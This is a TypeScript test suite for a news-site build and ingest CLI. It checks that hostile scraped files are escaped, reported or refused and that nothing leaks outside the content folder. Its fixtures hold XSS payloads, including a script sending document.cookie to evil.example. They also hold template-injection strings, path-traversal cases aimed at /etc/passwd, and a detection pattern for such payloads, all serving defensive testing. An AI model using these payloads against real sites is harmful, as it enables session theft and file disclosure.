/**
 * Issue 7, hostile input: every kind of bad file a scraper produces, in one content
 * folder, through one real build (and the ingest CLI). Each good file must become a
 * page with the right text; each bad one must be named in the report with a reason;
 * the build must not crash or hang; and nothing from the files' text — markup,
 * scripts, event handlers, external requests or links — may leak into the site, nor
 * anything from outside the content folder.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import type { Element } from 'hast';
import { repoRoot } from '../support/build-site.ts';
import { checkLinks } from '../support/check-links.ts';
import { createHostileCorpus, HIDDEN_CANARY, OUTSIDE_CANARY, type HostileCorpus } from '../support/hostile-corpus.ts';
import { BUILD_TIMEOUT_MS, describeTimeout, removeBuild, runBuild, type BuildRun } from '../support/run-build.ts';
import { allElements, attr, listHtmlPages, listSiteFiles, parsePage, textOf } from '../support/site-files.ts';

/** One article page of the built site. */
interface ArticlePage {
	file: string;
	title: string;
	body: string;
	/** Elements inside the rendered article text. */
	bodyElements: Element[];
}

/** A file that must become a page, found by its headline or a phrase of its body. */
interface PageCase {
	file: string;
	title?: string;
	bodyIncludes?: string;
	/** More than one page may match (duplicate titles). */
	count?: number;
}

/** A file that must not become a page and must be named in the report, with a reason matching `reason`. */
interface RefusedCase {
	file: string;
	reason: RegExp;
}

const pageCases: PageCase[] = [
	{ file: 'markup-in-title.txt', title: '<script>alert("title")</script> Mayor <img src=x onerror=alert(1)> opens the new ferry terminal' },
	{ file: 'markup-in-body.txt', title: 'Library extends opening hours for exam season', bodyIncludes: '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>' },
	{ file: 'markdown-syntax.txt', title: 'Council votes on the harbour parking plan', bodyIncludes: '# This line looks like a Markdown heading but is article text' },
	{ file: 'template-syntax.txt', title: 'Budget {{ 7*7 }} and ${process.env.HOME} in the headline', bodyIncludes: '{{ constructor.constructor("alert(6)")() }}' },
	{ file: 'front-matter-lookalike.txt', bodyIncludes: 'Crews repaired the burst water main' },
	{ file: 'hostile-markdown.md', bodyIncludes: 'harbour festival returns this weekend' },
	{ file: 'duplicate-title-a.txt + duplicate-title-b.txt', title: 'Storm closes coastal road', count: 2 },
	// Same body: the first in path order (" " sorts before ".") gets the page, the other is named its duplicate.
	{ file: 'duplicate-file-a (copy).txt', title: 'Fishing fleet returns early' },
	{ file: 'rtl-arabic.txt', title: 'افتتاح مكتبة جديدة في وسط المدينة' },
	{ file: 'rtl-hebrew.txt', title: 'נמל העיר נפתח מחדש אחרי שיפוץ' },
	{ file: 'cjk-chinese.txt', title: '港口新码头正式启用' },
	{ file: 'cjk-japanese.txt', title: '東京で新しい図書館が開館' },
	{ file: 'emoji.txt', bodyIncludes: 'Residents celebrated 🎆 the harbour festival' },
	{ file: 'Café news – spaces and accents.txt', title: 'Café owners in Zürich welcome longer terraces' },
	{ file: 'utf16le-bom.txt', title: 'Zürich (LE) tram line extended to the lake', bodyIncludes: 'Café owners along the route' },
	{ file: 'utf16be-bom.txt', title: 'Zürich (BE) tram line extended to the lake', bodyIncludes: 'Café owners along the route' },
	{ file: 'latin1.txt', title: 'Café in Münster reopens after façade repairs', bodyIncludes: 'since März' },
	{ file: 'nul-bytes.txt', title: 'Bridge inspection finds no faults' },
	{ file: 'crlf.txt', title: 'Night buses return to the city centre' },
	{ file: 'control-chars.txt', bodyIncludes: 'new timetable starts' },
	{ file: 'huge-5mb.txt', title: 'Five megabyte report on the harbour' },
	{ file: 'long-line-1mb.txt', title: 'One megabyte paragraph on the river' },
	{ file: '2024/05/nested-article.txt', title: 'Nested folders hold articles too' },
	{ file: 'UPPER-CASE.TXT', title: 'Upper case file extension still reads' },
	{ file: 'name-<b onmouseover=alert(16)>markup.txt', title: 'Markup in a file name stays out of pages' },
];

const refusedCases: RefusedCase[] = [
	{ file: 'empty.txt', reason: /empty/i },
	{ file: 'whitespace-only.txt', reason: /empty|blank|whitespace|no text/i },
	{ file: 'title-only.txt', reason: /title|headline|body|text/i },
	{ file: 'single-line-1mb.txt', reason: /title|headline|body|text|line|long/i },
	{ file: 'boilerplate-only.txt', reason: /boilerplate/i },
	{ file: 'binary-png.txt', reason: /binary|not text|PNG/i },
	{ file: 'binary-noise.txt', reason: /binary|not text/i },
	{ file: 'photo.jpg', reason: /not an article|extension|binary|image/i },
	{ file: 'saved-page.html', reason: /not an article|extension/i },
	{ file: 'data.json', reason: /not an article|extension/i },
	{ file: 'README', reason: /not an article|extension/i },
	{ file: 'leak-relative.txt', reason: /outside/i },
	{ file: 'leak-absolute.txt', reason: /outside/i },
	{ file: 'leak-folder', reason: /outside/i },
	{ file: 'passwd.txt', reason: /outside/i },
	{ file: 'broken-link.txt', reason: /broken|does not exist|missing|dangling/i },
	{ file: 'loop', reason: /loop|cycle|itself|already|recurs/i },
	// Front matter that is not YAML: no page (its title and date cannot be trusted), named with the parser's reason.
	{ file: 'malformed-front-matter.md', reason: /front matter that is not valid YAML/ },
];

const hiddenCases: RefusedCase[] = [
	{ file: '.hidden-article.txt', reason: /hidden/i },
	{ file: '.DS_Store', reason: /hidden/i },
	{ file: '.drafts', reason: /hidden/i },
];

/** Escapes a string for use in a RegExp. */
const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** The report line for `file` (`file: reason`, as the loader's logger or the CLI prints it), or undefined. */
function reportLine(log: string, file: string): string | undefined {
	const match = log.match(new RegExp(`(?:^|\\] |\\s)${escapeRegExp(file)}: (.*)$`, 'm'));
	return match?.[0];
}

/** Reads every article page of the site. */
function readArticlePages(outDir: string): ArticlePage[] {
	return listHtmlPages(outDir)
		.filter((file) => file.startsWith('articles/'))
		.map((file) => {
			const elements = allElements(parsePage(outDir, file));
			const bodyRoot = elements.find((e) => e.properties.dataPagefindBody !== undefined);
			const h1 = elements.find((e) => e.tagName === 'h1');
			// The rendered article text sits in `.article-body` (older templates: `.prose`); the
			// page's own furniture (share buttons, icons) around it is not article text.
			const classes = (e: Element) => (attr(e, 'className') ?? '').split(' ');
			const contentRoot = elements.find((e) => classes(e).includes('article-body')) ?? elements.find((e) => classes(e).includes('prose')) ?? bodyRoot;
			const bodyElements = contentRoot ? allElements(contentRoot) : [];
			return {
				file,
				title: h1 ? textOf(h1).trim() : '',
				body: bodyRoot ? textOf(bodyRoot) : '',
				bodyElements,
			};
		});
}

/** Matches a page case against the site's pages. */
function pagesFor(pages: ArticlePage[], c: PageCase): ArticlePage[] {
	return pages.filter((p) => (c.title === undefined || p.title === c.title) && (c.bodyIncludes === undefined || p.body.includes(c.bodyIncludes)));
}

/** The text of every output file, gunzipping Pagefind's compressed index files. */
function readAllOutput(outDir: string): { file: string; text: string }[] {
	return listSiteFiles(outDir).map((file) => {
		const bytes = readFileSync(path.join(outDir, file));
		const plain = bytes[0] === 0x1f && bytes[1] === 0x8b ? gunzipSync(bytes) : bytes;
		return { file, text: plain.toString('utf8') };
	});
}

describe('hostile input: one build of every kind of bad file', () => {
	let corpus: HostileCorpus;
	let run: BuildRun;
	let pages: ArticlePage[];

	before(async () => {
		corpus = createHostileCorpus();
		run = await runBuild({ contentDir: corpus.contentDir });
		pages = run.code === 0 ? readArticlePages(run.outDir) : [];
	});
	after(async () => {
		corpus?.remove();
		await removeBuild(run);
	});

	it('builds without crashing or hanging', () => {
		assert.equal(run.timedOut, false, describeTimeout(corpus.contentDir, run));
		assert.equal(run.code, 0, `the build failed:\n${run.log.slice(-6000)}`);
	});

	for (const c of pageCases) {
		it(`makes a page of ${c.file}`, () => {
			const found = pagesFor(pages, c);
			assert.equal(
				found.length,
				c.count ?? 1,
				`expected ${c.count ?? 1} page(s) titled ${JSON.stringify(c.title)} with body ${JSON.stringify(c.bodyIncludes)}; titles built: ${JSON.stringify(pages.map((p) => p.title.slice(0, 80)))}\nreport: ${reportLine(run.log, c.file) ?? '(not named)'}`,
			);
		});
	}

	it('makes no other pages (nothing from binary, hidden, refused or out-of-folder files)', () => {
		const expected = new Set(pageCases.flatMap((c) => pagesFor(pages, c)).map((p) => p.file));
		const unexpected = pages.filter((p) => !expected.has(p.file)).map((p) => `${p.file} (“${p.title.slice(0, 60)}”)`);
		assert.deepEqual(unexpected, []);
	});

	for (const c of refusedCases) {
		it(`refuses ${c.file} and names it with a reason`, () => {
			const line = reportLine(run.log, c.file);
			assert.ok(line, `${c.file} is not named in the build report`);
			assert.match(line, c.reason);
		});
	}

	for (const c of hiddenCases) {
		it(`skips the hidden ${c.file} and names it`, () => {
			const line = reportLine(run.log, c.file);
			assert.ok(line, `${c.file} is not named in the build report`);
			assert.match(line, c.reason);
		});
	}

	it('names a duplicate file as a duplicate of the one that got the page', () => {
		const line = reportLine(run.log, 'duplicate-file-a.txt');
		assert.ok(line, 'duplicate-file-a.txt is not named in the report');
		assert.match(line, /same body as duplicate-file-a \(copy\)\.txt/);
		assert.equal(reportLine(run.log, 'duplicate-file-a (copy).txt'), undefined, 'the copy that got the page is named as a problem too');
	});

	it('gives the two same-titled articles different addresses', () => {
		const found = pagesFor(pages, { file: '', title: 'Storm closes coastal road' });
		assert.equal(new Set(found.map((p) => p.file)).size, 2);
	});

	it('walks a symlink loop once, not once per level', () => {
		assert.doesNotMatch(run.log, /(^|\] )loop\/\S/m, 'files were listed again below the loop link');
	});

	it('prints short report lines, never a whole 1 MB line', () => {
		const longest = Math.max(...run.log.split('\n').map((line) => line.length));
		assert.ok(longest < 2000, `a build log line is ${longest} characters long`);
	});

	it('decodes encodings into clean text: no replacement characters, NULs or control characters in any page or feed', () => {
		for (const file of listSiteFiles(run.outDir).filter((f) => /\.(html|xml)$/.test(f))) {
			const text = readFileSync(path.join(run.outDir, file), 'utf8');
			assert.doesNotMatch(text, /\uFFFD/, `${file} holds U+FFFD (text decoded with the wrong encoding)`);
			assert.doesNotMatch(text, /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/, `${file} holds a control character`);
		}
	});

	it('splits CRLF text into paragraphs like LF text', () => {
		const [page] = pagesFor(pages, { file: '', title: 'Night buses return to the city centre' });
		assert.ok(page, 'no page for crlf.txt');
		const paragraphs = page.bodyElements.filter((e) => e.tagName === 'p').map((p) => textOf(p));
		const first = paragraphs.filter((p) => p.includes('Night buses will run again'));
		const second = paragraphs.filter((p) => p.includes('The service stopped in March'));
		assert.equal(first.length, 1, 'the first paragraph is not its own <p>');
		assert.equal(second.length, 1, 'the second paragraph is not its own <p>');
		assert.ok(!first[0]!.includes('The service stopped'), 'CRLF paragraphs were run together');
		assert.doesNotMatch(readFileSync(path.join(run.outDir, page.file), 'utf8'), /\r/);
	});

	it('shows markup and template syntax in text literally (escaped, never evaluated)', () => {
		const [template] = pagesFor(pages, { file: '', title: 'Budget {{ 7*7 }} and ${process.env.HOME} in the headline' });
		assert.ok(template, 'no page for template-syntax.txt');
		assert.ok(template.body.includes('${7*7}, <%= 7*7 %>, {props.secret}, #{7*7}'), 'template debris is not shown literally');
		assert.ok(template.body.includes('{{ constructor.constructor("alert(6)")() }} and {% include "secret" %}'), 'template tags are not shown literally');
		assert.doesNotMatch(template.body, /\b49\b/, 'a template expression (7*7) was evaluated');
		const [markup] = pagesFor(pages, { file: '', title: 'Library extends opening hours for exam season' });
		assert.ok(markup?.body.includes('<a href="javascript:alert(3)">click here</a>'), 'markup in body text is not shown literally');
	});

	it('lets no element, script, event handler or style from the text into any page', () => {
		const offences: string[] = [];
		for (const file of listHtmlPages(run.outDir)) {
			for (const element of allElements(parsePage(run.outDir, file))) {
				const where = `${file}: <${element.tagName}>`;
				for (const [name, value] of Object.entries(element.properties)) {
					if (/^on/i.test(name)) offences.push(`${where} has event handler ${name}`);
					const text = Array.isArray(value) ? value.join(' ') : String(value);
					if (/^(href|src|srcSet|action|formAction|data|poster|xLinkHref|style|srcDoc)$/.test(name) && /javascript:|vbscript:|data:text|evil\.example|tracker\.example|alert\(/i.test(text)) {
						offences.push(`${where} ${name}=${JSON.stringify(text.slice(0, 80))}`);
					}
				}
				if (element.tagName === 'script') {
					const type = attr(element, 'type') ?? '';
					if (!attr(element, 'src') && !/json/.test(type)) offences.push(`${where} is an inline script`);
				}
				// The site's own search forms are fine; forms from article text are caught below.
				if (['base', 'iframe', 'frame', 'object', 'embed'].includes(element.tagName)) offences.push(`${where} should not exist`);
			}
		}
		for (const page of pages) {
			for (const element of page.bodyElements) {
				if (['script', 'style', 'img', 'svg', 'iframe', 'link', 'meta', 'form', 'input', 'button', 'video', 'audio', 'source', 'picture'].includes(element.tagName)) {
					offences.push(`${page.file}: article body holds <${element.tagName}>`);
				}
			}
		}
		assert.deepEqual(offences, []);
	});

	it('makes no external requests and no links to other sites from article text', () => {
		const { external } = checkLinks(run.outDir, { base: '/', siteUrl: 'http://localhost:4321' });
		assert.deepEqual(external, []);
	});

	it('keeps every internal link and asset working, whatever the titles and file names', () => {
		const { broken } = checkLinks(run.outDir, { base: '/', siteUrl: 'http://localhost:4321' });
		assert.deepEqual(broken.filter((b) => b.from !== '404.html'), []);
	});

	it('reads nothing outside the content folder and nothing hidden (canaries absent from every output file, search index included)', () => {
		for (const { file, text } of readAllOutput(run.outDir)) {
			assert.ok(!text.includes(OUTSIDE_CANARY), `${file} holds text from outside the content folder`);
			assert.ok(!text.includes(HIDDEN_CANARY), `${file} holds text from a hidden file`);
			assert.ok(!text.includes('root:x:0:0'), `${file} holds /etc/passwd`);
		}
		assert.ok(!run.log.includes(OUTSIDE_CANARY), 'the build log quotes a file outside the content folder');
	});

	it('writes a well-formed feed whose descriptions carry no markup a feed reader would render', () => {
		const xml = readFileSync(path.join(run.outDir, 'rss.xml'), 'utf8');
		assert.equal(XMLValidator.validate(xml), true, 'rss.xml is not well-formed XML');
		const feed = new XMLParser({ processEntities: true, htmlEntities: true }).parse(xml);
		const items: { title: unknown; description?: unknown }[] = [feed.rss.channel.item].flat();
		for (const item of items) {
			// RSS readers render <description> as HTML: text must arrive escaped twice.
			assert.doesNotMatch(String(item.description ?? ''), /<\s*\/?\s*(script|img|iframe|a|svg|style|b)\b/i, `feed description of “${String(item.title).slice(0, 60)}” holds markup`);
		}
	});

	it('does not publish file names (they may hold markup or private paths)', () => {
		for (const { file, text } of readAllOutput(run.outDir).filter((f) => /\.(html|xml)$/.test(f.file))) {
			assert.ok(!text.includes('onmouseover=alert(16)'), `${file} shows a file name`);
			assert.ok(!text.includes(corpus.contentDir), `${file} shows the content folder's path`);
		}
	});
});

const ingestCli = path.join(repoRoot, 'scripts/ingest.ts');

describe('hostile input: npm run ingest -- DIR --json FILE', () => {
	let report: { articles?: { file: string; title?: string }[]; problems?: { file: string; message: string; severity?: string }[] };
	let corpus: HostileCorpus;
	let status: number | null;
	let output: string;

	before(() => {
		// `npm run ingest` is documented: a deleted or moved CLI must fail here, not skip.
		assert.ok(existsSync(ingestCli), `${ingestCli} is missing: package.json's "ingest" script runs it`);
		corpus = createHostileCorpus();
		const jsonFile = path.join(mkdtempSync(path.join(os.tmpdir(), 'broadsheet-ingest-')), 'report.json');
		const result = spawnSync(process.execPath, [ingestCli, corpus.contentDir, '--json', jsonFile], { cwd: repoRoot, encoding: 'utf8', timeout: BUILD_TIMEOUT_MS, maxBuffer: 64 * 1024 * 1024 });
		status = result.status;
		output = `${result.stdout}\n${result.stderr}${result.error ? `\n${result.error.message} (limit ${BUILD_TIMEOUT_MS / 1000} s)` : ''}`;
		report = existsSync(jsonFile) ? JSON.parse(readFileSync(jsonFile, 'utf8')) : {};
		rmSync(path.dirname(jsonFile), { recursive: true, force: true });
	});
	after(() => corpus?.remove());

	it('finishes and writes the JSON report', () => {
		assert.notEqual(status, null, `the ingest CLI hung or was killed:\n${output.slice(-3000)}`);
		assert.ok(Array.isArray(report.problems), `no problems array in the JSON report; CLI said:\n${output.slice(-3000)}`);
	});

	it('names every refused and hidden file with a reason', () => {
		const byFile = new Map((report.problems ?? []).map((p) => [p.file, p.message]));
		const missing = [...refusedCases, ...hiddenCases].filter((c) => !byFile.has(c.file) || !c.reason.test(byFile.get(c.file)!)).map((c) => `${c.file}: ${byFile.get(c.file) ?? '(not named)'}`);
		assert.deepEqual(missing, []);
	});

	it('lists every good file as an article', () => {
		const files = new Set((report.articles ?? []).map((a) => a.file));
		// `a + b`: both files are articles.
		const missing = pageCases.flatMap((c) => c.file.split(' + ')).filter((file) => !files.has(file));
		assert.deepEqual(missing, []);
	});

	it('names the duplicate file with the article that got the page', () => {
		const keeper = (report.articles ?? []).find((a) => a.file === 'duplicate-file-a (copy).txt') as { duplicates?: string[] } | undefined;
		assert.deepEqual(keeper?.duplicates, ['duplicate-file-a.txt']);
		assert.ok(!(report.articles ?? []).some((a) => a.file === 'duplicate-file-a.txt'), 'the duplicate is listed as an article too');
	});

	it('never reads outside the content folder', () => {
		assert.ok(!JSON.stringify(report).includes(OUTSIDE_CANARY));
		assert.ok(!JSON.stringify(report).includes(HIDDEN_CANARY));
	});
});
